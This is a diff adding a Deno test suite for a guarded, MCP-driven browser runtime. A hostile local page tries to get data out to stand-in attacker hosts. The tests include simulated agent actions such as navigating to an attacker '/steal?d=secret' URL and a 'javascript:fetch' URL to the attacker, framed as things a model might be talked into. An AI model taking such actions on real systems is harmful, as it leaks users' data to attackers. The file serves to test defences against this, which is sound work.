@@ -1,0 +1,244 @@
+/**
+ * The attack suite: a hostile page on 127.0.0.1 tries every way we know to get bytes to an
+ * attacker on 127.0.0.3 (and 127.0.0.4). First a control run in a plain, unguarded Chromium
+ * proves each attempt really reaches the attacker; then the same attempts through Omotai
+ * must leave the attacker at zero TCP connections and zero UDP datagrams, each with its
+ * deny in the audit, while benign browsing of the allowed origin still works.
+ *
+ * @module
+ */
+import assert from "node:assert/strict";
+import { findBrowser, launchBrowser, ProfileStore } from "../cdp/mod.ts";
+import { startRuntime } from "../runtime/cli/start.ts";
+import { verifyAudit, verifyJsonl } from "../runtime/audit/verify.ts";
+import { JsonlMirror } from "../runtime/audit/jsonl_mirror.ts";
+import { openDatabase } from "../runtime/store/database.ts";
+import { type Attacker, startAttacker } from "./fixtures/attacker.ts";
+import { ATTACKS, type HostileSite, serveHostileSite } from "./fixtures/hostile_site.ts";
+// @ts-types="npm:@modelcontextprotocol/sdk@1.32.2/client/index"
+import { Client } from "@modelcontextprotocol/sdk/client/index.js";
+// @ts-types="npm:@modelcontextprotocol/sdk@1.32.2/client/streamableHttp"
+import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
+import { eventually, refOf, TestClient } from "./helpers/harness.ts";
+import type { AuditRow } from "../runtime/audit/audit_log.ts";
+
+interface World extends AsyncDisposable {
+  att: Attacker;
+  att2: Attacker;
+  site: HostileSite;
+}
+
+async function world(): Promise<World> {
+  const att = await startAttacker("127.0.0.3");
+  const att2 = await startAttacker("127.0.0.4");
+  const site = serveHostileSite(att.origin, att2.origin);
+  return {
+    att,
+    att2,
+    site,
+    async [Symbol.asyncDispose]() {
+      await site[Symbol.asyncDispose]();
+      await att[Symbol.asyncDispose]();
+      await att2[Symbol.asyncDispose]();
+    },
+  };
+}
+
+/** Connections, request lines and datagrams: a request on a socket opened earlier counts too. */
+const hitsOf = (w: World) =>
+  w.att.tcp + w.att.udp + w.att.lines.length + w.att2.tcp + w.att2.udp + w.att2.lines.length;
+
+Deno.test("control: every attack reaches the attacker from a plain Chromium", async () => {
+  await using w = await world();
+  const dir = await Deno.makeTempDir({ prefix: "omotai-control-" });
+  await using profiles = await ProfileStore.open(dir);
+  await using browser = await launchBrowser({
+    executable: findBrowser(Deno.env.get("OMOTAI_BROWSER")),
+    profileDir: await profiles.create(),
+  });
+  const root = browser.connection.root;
+  const missed: string[] = [];
+  try {
+    for (const attack of ATTACKS) {
+      const { targetId } = await root.send("Target.createTarget", { url: "about:blank" });
+      const { sessionId } = await root.send("Target.attachToTarget", { targetId, flatten: true });
+      const page = browser.connection.session(sessionId)!;
+      await page.send("Page.enable");
+      const loaded = page.waitFor("Page.loadEventFired", undefined, { timeoutMs: 10_000 });
+      await page.send("Page.navigate", { url: `${w.site.origin}/attack/${attack.name}` });
+      await loaded;
+      const before = hitsOf(w);
+      await page.send("Runtime.evaluate", { expression: "go()", userGesture: true });
+      if (!await eventually(() => hitsOf(w) > before, 4_000)) missed.push(attack.name);
+      await root.send("Target.closeTarget", { targetId }).catch(() => {});
+    }
+  } finally {
+    await Deno.remove(dir, { recursive: true }).catch(() => {});
+  }
+  assert.deepEqual(missed, [], "these attacks did not reach the attacker even unguarded");
+});
+
+async function guarded(w: World, dataDir: string) {
+  const policyFile = `${dataDir}/policy.yaml`;
+  await Deno.writeTextFile(policyFile, `allowed_origins: [${w.site.origin}]\nread_only: true\n`);
+  const runtime = await startRuntime({
+    mode: "sse",
+    host: "127.0.0.1",
+    port: 0,
+    dataDir,
+    policy: policyFile,
+    audit: `${dataDir}/audit.jsonl`,
+  });
+  const client = new Client({ name: "attack-suite", version: "0" });
+  await client.connect(new StreamableHTTPClientTransport(new URL("/mcp", runtime.url)));
+  return { runtime, c: new TestClient(client) };
+}
+
+function deniesFor(rows: AuditRow[], attackers: Attacker[]): AuditRow[] {
+  return rows.filter((r) =>
+    r.decision === "deny" &&
+    attackers.some((a) => r.origin?.endsWith(`//${a.host}:${a.port}`))
+  );
+}
+
+Deno.test("attack suite: nothing reaches the attacker through Omotai, every block is audited", async () => {
+  await using w = await world();
+  const dataDir = await Deno.makeTempDir({ prefix: "omotai-attack-" });
+  const { runtime, c } = await guarded(w, dataDir);
+  const failures: string[] = [];
+  try {
+    // Agent actions the model might be talked into.
+    const home = await c.call("browser_navigate", { url: `${w.site.origin}/` });
+    assert.match(home.text, /# Hostile home/);
+    const nav = await c.call("browser_navigate", { url: `${w.att.origin}/steal?d=secret` });
+    assert.match(nav.text, /^denied: ORIGIN_NOT_ALLOWED/);
+    const js = await c.call("browser_navigate", { url: `javascript:fetch("${w.att.origin}")` });
+    assert.match(js.text, /^denied: SCHEME_NOT_ALLOWED/);
+    const other = await c.call("browser_navigate", { url: `${w.att2.origin}/x` });
+    assert.match(other.text, /^denied: ORIGIN_NOT_ALLOWED/);
+    const click = await c.call("browser_click", {
+      ref: refOf(home.text, /link "Claim your prize"/),
+    });
+    assert.match(click.text, /^denied: LINK_ORIGIN_NOT_ALLOWED/);
+
+    for (const attack of ATTACKS) {
+      const t0 = performance.now();
+      const start = runtime.audit.rows().at(-1)!.seq;
+      const page = await c.call("browser_navigate", {
+        url: `${w.site.origin}/attack/${attack.name}`,
+      });
+      if (page.isError) {
+        failures.push(`${attack.name}: could not open its page: ${page.text.slice(0, 200)}`);
+        continue;
+      }
+      const t1 = performance.now();
+      const go = await c.call("browser_click", { ref: refOf(page.text, /button "Go"/) });
+      if (Deno.env.get("ATTACK_TRACE")) {
+        console.log(
+          `  navigate ${Math.round(t1 - t0)} ms, click ${Math.round(performance.now() - t1)} ms`,
+        );
+      }
+      if (/^denied:/.test(go.text)) failures.push(`${attack.name}: the Go click was denied`);
+      if (attack.audited) {
+        const seen = await eventually(
+          () => deniesFor(runtime.audit.rows(start), [w.att, w.att2]).length > 0,
+          6_000,
+        );
+        if (!seen) failures.push(`${attack.name}: no deny row for the attacker in the audit`);
+      } else {
+        await new Promise((r) => setTimeout(r, 1_500));
+      }
+      if (Deno.env.get("ATTACK_TRACE")) {
+        console.log(`${attack.name}: ${Math.round(performance.now() - t0)} ms`);
+      }
+      if (hitsOf(w) > 0) {
+        failures.push(
+          `${attack.name}: the attacker was reached (tcp ${w.att.tcp + w.att2.tcp}, udp ${
+            w.att.udp + w.att2.udp
+          }): ${[...w.att.lines, ...w.att2.lines]}`,
+        );
+        break;
+      }
+    }
+    // The model hears what was blocked.
+    const snap = await c.call("browser_snapshot");
+    assert.doesNotMatch(snap.text, /secret/);
+
+    const denies = deniesFor(runtime.audit.rows(), [w.att, w.att2]);
+    for (const row of denies) {
+      assert.ok(
+        ["ORIGIN_NOT_ALLOWED", "LINK_ORIGIN_NOT_ALLOWED", "PRIVATE_ADDRESS"].includes(row.reason!),
+        `unexpected reason ${row.reason} for ${row.origin}`,
+      );
+      assert.ok(!JSON.stringify(row).includes("secret"), "audit rows carry no path or query");
+    }
+    assert.ok(denies.some((r) => r.source === "proxy"), "the proxy refused the WebSocket tunnel");
+    assert.ok(denies.some((r) => r.source === "request"), "the request guard refused requests");
+    assert.ok(denies.some((r) => r.source === "action"), "agent actions were refused");
+  } finally {
+    await c[Symbol.asyncDispose]();
+    await runtime[Symbol.asyncDispose]();
+  }
+  try {
+    assert.deepEqual(failures, []);
+    assert.equal(w.att.tcp + w.att.udp + w.att2.tcp + w.att2.udp, 0);
+    const db = openDatabase(`${dataDir}/omotai.db`);
+    try {
+      assert.deepEqual(verifyAudit(db).problems, []);
+    } finally {
+      db.close();
+    }
+    assert.deepEqual(verifyJsonl(JsonlMirror.files(`${dataDir}/audit.jsonl`)).problems, []);
+  } finally {
+    await Deno.remove(dataDir, { recursive: true }).catch(() => {});
+  }
+});
+
+Deno.test("benign browsing works behind the guard; read_only keeps every write off the site", async () => {
+  await using w = await world();
+  const dataDir = await Deno.makeTempDir({ prefix: "omotai-benign-" });
+  const { runtime, c } = await guarded(w, dataDir);
+  try {
+    const home = await c.call("browser_navigate", { url: `${w.site.origin}/` });
+    const first = await c.call("browser_click", { ref: refOf(home.text, /link "First results"/) });
+    assert.match(first.text, /# Results for first/);
+    const back = await c.call("browser_navigate_back");
+    assert.match(back.text, /# Hostile home/);
+    const typed = await c.call("browser_type", {
+      ref: refOf(back.text, /textbox "Search"/),
+      text: "shoes",
+      submit: true,
+    });
+    assert.match(typed.text, /# Results for shoes/, typed.text);
+    const again = await c.call("browser_navigate", { url: `${w.site.origin}/` });
+
+    // Writes: an agent submit, a page script's POST, and a form POST that would be 307'd.
+    const save = await c.call("browser_click", { ref: refOf(again.text, /button "Save"$/) });
+    assert.match(save.text, /^denied: READ_ONLY_SUBMIT \(POST form to /);
+    const start = runtime.audit.rows().at(-1)!.seq;
+    const byScript = await c.call("browser_click", {
+      ref: refOf(again.text, /button "Save by script"/),
+    });
+    assert.ok(
+      await eventually(() =>
+        runtime.audit.rows(start).some((r) => r.method === "POST" && r.reason === "READ_ONLY_WRITE")
+      ),
+      "the script's POST is refused as READ_ONLY_WRITE",
+    );
+    const snap = await c.call("browser_snapshot");
+    assert.match(
+      byScript.text + snap.text,
+      /notice: blocked 1 request since the last snapshot: POST http:\/\/127\.0\.0\.1:\d+ \(READ_ONLY_WRITE\)/,
+    );
+    const home2 = await c.call("browser_navigate", { url: `${w.site.origin}/` });
+    await c.call("browser_click", { ref: refOf(home2.text, /button "Redirect write"/) });
+    await new Promise((r) => setTimeout(r, 500));
+    assert.deepEqual(w.site.writes, []);
+    assert.ok(w.site.hits.includes("GET /redirect307-form"), "the auto-submitting page loaded");
+    assert.ok(!w.site.hits.some((h) => h.startsWith("POST")), w.site.hits.join(", "));
+  } finally {
+    await c[Symbol.asyncDispose]();
+    await runtime[Symbol.asyncDispose]();
+    await Deno.remove(dataDir, { recursive: true }).catch(() => {});
+  }
+});
